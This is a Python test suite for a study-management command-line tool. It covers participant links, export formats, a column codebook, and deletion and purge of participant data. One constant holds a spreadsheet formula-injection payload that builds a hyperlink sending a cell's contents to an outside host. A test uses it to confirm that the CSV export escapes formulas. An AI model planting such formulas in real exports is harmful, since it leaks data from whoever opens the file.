"""Studies from the shell: from a new file to links, review, export, deletion and purge."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import pandas as pd
import pyarrow.parquet as pq
import pytest

from data import study_belongings, study_deletion
from data.__main__ import main
from data.log import Log
from data.privacy import expires_at
from data.spool import Entry, Spool
from data.studies import Study, load_study
from data.study_codebook import codebook
from data.study_export import export_files, export_zip
from data.study_links import Links, secret_path
from tests.data.studies import made, took_part

EVIL = '=HYPERLINK("http://example.org/?"&A1,"open")'
Printed = pytest.CaptureFixture[str]


def talked(number: int, variant: str) -> list[dict[str, object]]:
    return [
        {
            "rating": 4,
            "client_first_content_ms": 900.5,
            "text": f"person-{number:02d}-says",
            "suggestion_id": EVIL,
        }
    ]


@pytest.fixture
def study(temporary_log: Path) -> Study:
    """A study that four people have done; their text is kept."""
    study = made(text="full", text_days=30)
    took_part(temporary_log, study, 4, talked)
    return study


def contents(folder: Path) -> bytes:
    return b"".join(file.read_bytes() for file in folder.rglob("*") if file.is_file())


def test_a_new_study_is_one_that_could_be_run(capsys: Printed) -> None:
    assert main(["study", "new", "first"]) == 0
    assert "first.toml" in capsys.readouterr().out
    assert load_study("first").advice() == []
    assert main(["study", "new", "first"]) == 1
    assert "already" in capsys.readouterr().err
    assert main(["study", "list"]) == 0
    assert "first: to come" in capsys.readouterr().out


def test_links_carry_a_token_that_admits_to_that_study_only(temporary_log: Path, capsys: Printed) -> None:
    made()
    made(name="other")
    assert main(["study", "links", "cues", "ada", "--people", "2", "--base", "https://x.test/"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert [name for name, _ in rows] == ["ada", "p01", "p02"]
    links = Links(temporary_log)
    queries = [dict(parse_qsl(urlsplit(link).query)) for _, link in rows]
    assert len({query["t"] for query in queries}) == 3
    for name, query in zip(["ada", "p01", "p02"], queries, strict=True):
        admission = links.admission(query)
        assert admission is not None
        assert (admission.study, admission.participant) == ("cues", name)
        assert links.admission(query | {"study": "other"}) is None
        assert links.admission(query | {"p": "p03"}) is None
    assert main(["study", "links", "cues"]) == 1
    assert main(["study", "links", "cues", "ada", "--force", "nothing"]) == 1
    assert "with, without" in capsys.readouterr().err


def test_the_secret_is_its_owners_and_another_one_admits_nobody(temporary_log: Path) -> None:
    query = dict(parse_qsl(urlsplit(Links(temporary_log).personal("", "cues", "ada")).query))
    place = secret_path(temporary_log)
    if os.name == "posix":
        assert place.stat().st_mode & 0o777 == 0o600
    assert Links(temporary_log).admission(query) is not None
    place.unlink()
    assert Links(temporary_log).admission(query) is None
    place.write_text("short")
    with pytest.raises(OSError, match="not whole"):
        Links(temporary_log).admission(query)


def test_status_and_review_say_where_it_is(study: Study, capsys: Printed) -> None:
    assert main(["study", "status", "cues"]) == 0
    told = capsys.readouterr().out
    assert "4 done, 0 under way, 0 stopped" in told
    assert "8 messages, 8 ratings" in told
    assert main(["study", "review", "cues"]) == 0
    told = capsys.readouterr().out
    assert "Not decided yet. Missing: 4 more people" in told
    assert "p00                  with: 4.0 of 7   without: 4.0 of 7" in told
    assert main(["study", "review", "cues", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["finished"] == 4
    assert main(["study", "status", "nothing"]) == 1


@pytest.mark.parametrize("form", ["csv", "jsonl", "parquet"])
def test_an_export_has_every_table_and_explains_every_column(
    study: Study, temporary_log: Path, tmp_path: Path, form: str
) -> None:
    out = tmp_path / "out"
    assert main(["study", "export", "cues", "--format", form, "--out", str(out)]) == 0
    assert not (out / f"text.{form}").exists()
    explained = pd.read_csv(out / "codebook.csv", keep_default_na=False)
    assert set(explained.what) & {""} == set()
    assert set(explained.null_when) & {""} == set()
    read = {
        "csv": pd.read_csv,
        "jsonl": lambda path: pd.read_json(path, lines=True),
        "parquet": pd.read_parquet,
    }
    for name in ("people", "turns", "ratings", "markers", "measures"):
        columns = explained[explained.table == name].column.tolist()
        if form == "jsonl" and name == "markers":
            assert (out / "markers.jsonl").read_bytes() == b"", "nobody dropped one"
            continue
        assert read[form](out / f"{name}.{form}").columns.tolist() == columns
    turns = read[form](out / f"turns.{form}")
    assert len(turns) == 8
    assert set(turns.client_first_content_ms) == {900.5}
    assert turns.first_content_ms.isna().all()
    ratings = read[form](out / f"ratings.{form}")
    assert ratings.value.tolist() == [4] * 8


def test_text_is_exported_only_when_asked_for(study: Study, temporary_log: Path) -> None:
    without = b"".join(export_files(temporary_log, study, "jsonl").values())
    assert b"person-00-says" not in without
    files = export_files(temporary_log, study, "jsonl", with_text=True)
    assert b"person-00-says" in files["text.jsonl"]
    assert {row[0] for row in codebook(with_text=True)} == {*(name.split(".")[0] for name in files)} - {
        "codebook"
    }


def test_a_spreadsheet_runs_nothing_of_it(study: Study, temporary_log: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(export_files(temporary_log, study, "csv")["turns.csv"].decode())))
    assert rows[0]["suggestion_id"] == f"'{EVIL}"
    assert rows[0]["client_first_content_ms"] == "900.5"


def test_parquet_keeps_types_and_explanations(study: Study, temporary_log: Path) -> None:
    table = pq.read_table(io.BytesIO(export_files(temporary_log, study, "parquet")["turns.parquet"]))
    field = table.schema.field("done_ms")
    assert str(field.type) == "double"
    assert field.metadata[b"unit"].startswith(b"milliseconds from the server's receipt")
    assert len(export_zip(temporary_log, study, "parquet")) > 1000


def test_deleting_a_participant_says_first_and_then_leaves_nothing_anywhere(
    study: Study, temporary_log: Path, capsys: Printed
) -> None:
    spool = Spool(temporary_log)
    with sqlite3.connect(temporary_log) as connection:
        [(turn,)] = connection.execute(
            "SELECT turn_id FROM turns JOIN sessions USING (session_id) WHERE participant = 'p01' LIMIT 1"
        ).fetchall()
    connection.close()
    spool.append([Entry("turn_text", {"turn_id": turn, "answer": "person-01-waits"})])
    spool.append([Entry("sessions", {"session_id": "s-late", "study": "cues", "participant": "p01"})])
    spool.append(
        [Entry("turns", {"turn_id": "late", "session_id": "s-late", "error_type": "person-01-late"})]
    )
    assert main(["study", "delete-participant", "cues", "p01", "--dry-run"]) == 0
    told = capsys.readouterr().out
    assert "turns                2" in told
    assert "waiting in side files 3" in told
    assert "Nothing was deleted" in told
    before = contents(temporary_log.parent)
    assert b"person-01-says" in before
    assert b"person-01-waits" in before

    assert main(["study", "delete-participant", "cues", "p01"]) == 0
    after = contents(temporary_log.parent)
    for word in (b"person-01-says", b"person-01-waits", b"person-01-late"):
        assert word not in after, word
    assert b"person-00-says" in after
    assert main(["study", "delete-participant", "cues", "p01", "--dry-run"]) == 0
    assert "p01 in cues: 0 rows" in capsys.readouterr().out


def test_what_was_deleted_stays_deleted_when_rows_come_late(study: Study, temporary_log: Path) -> None:
    doomed = study_belongings.of_participant(temporary_log, "cues", "p01")
    log = Log(temporary_log)  # a running app that knows nothing of the deletion
    study_deletion.delete(temporary_log, doomed)
    turn, session = sorted(doomed.turns)[0], sorted(doomed.sessions)[0]
    log.put("turns", {"turn_id": turn, "status": "ok"})
    log.put("turn_text", {"turn_id": turn, "answer": "person-01-again"})
    log.put("generations", {"generation_id": "g", "turn_id": turn})
    log.put("ratings", {"rating_id": "r", "session_id": session, "participant": "p01"})
    log.put("turns", {"turn_id": "of-another", "status": "ok"})
    assert log.flush()
    log.close()
    assert b"person-01-again" not in contents(temporary_log.parent)
    with sqlite3.connect(temporary_log) as connection:
        assert connection.execute(
            "SELECT COUNT(*) FROM generations WHERE generation_id = 'g'"
        ).fetchone() == (0,)
        assert connection.execute("SELECT COUNT(*) FROM ratings WHERE rating_id = 'r'").fetchone() == (0,)
        assert connection.execute("SELECT COUNT(*) FROM turns WHERE turn_id = 'of-another'").fetchone() == (
            1,
        )
    connection.close()


def test_purge_takes_expired_text_and_whole_studies_whose_time_is_over(
    temporary_log: Path, capsys: Printed, monkeypatch: pytest.MonkeyPatch
) -> None:
    kept = made(records_days=5)
    took_part(temporary_log, kept, 2, talked)
    log = Log(temporary_log)
    log.put("turn_text", {"turn_id": "fresh", "prompt": "fresh-words", "expires_at": expires_at(3)})
    assert log.flush()
    log.close()
    assert main(["study", "purge", "--dry-run"]) == 0
    assert "cues: its records are not due" in capsys.readouterr().out

    later = datetime.now(UTC) + timedelta(days=100)

    class Later(datetime):
        @classmethod
        def now(cls, tz: object = None) -> datetime:
            return later

    monkeypatch.setattr("data.study_cli.datetime", Later)
    assert main(["study", "purge", "--dry-run"]) == 0
    told = capsys.readouterr().out
    assert "text whose time is over: 1 turns" in told
    assert "turns                4" in told
    assert b"fresh-words" in contents(temporary_log.parent)
    assert main(["study", "purge"]) == 0
    assert b"fresh-words" not in contents(temporary_log.parent)
    assert study_belongings.of_study(temporary_log, "cues").total == 0


def test_all_of_one_study_can_be_deleted_at_once_and_no_other(temporary_log: Path, capsys: Printed) -> None:
    for name in ("cues", "other"):
        took_part(temporary_log, made(name=name), 2, lambda *_: [])
    assert main(["study", "purge", "--all"]) == 1
    assert main(["study", "purge", "cues", "--all"]) == 0
    assert study_belongings.of_study(temporary_log, "cues").total == 0
    assert study_belongings.of_study(temporary_log, "other").total > 0
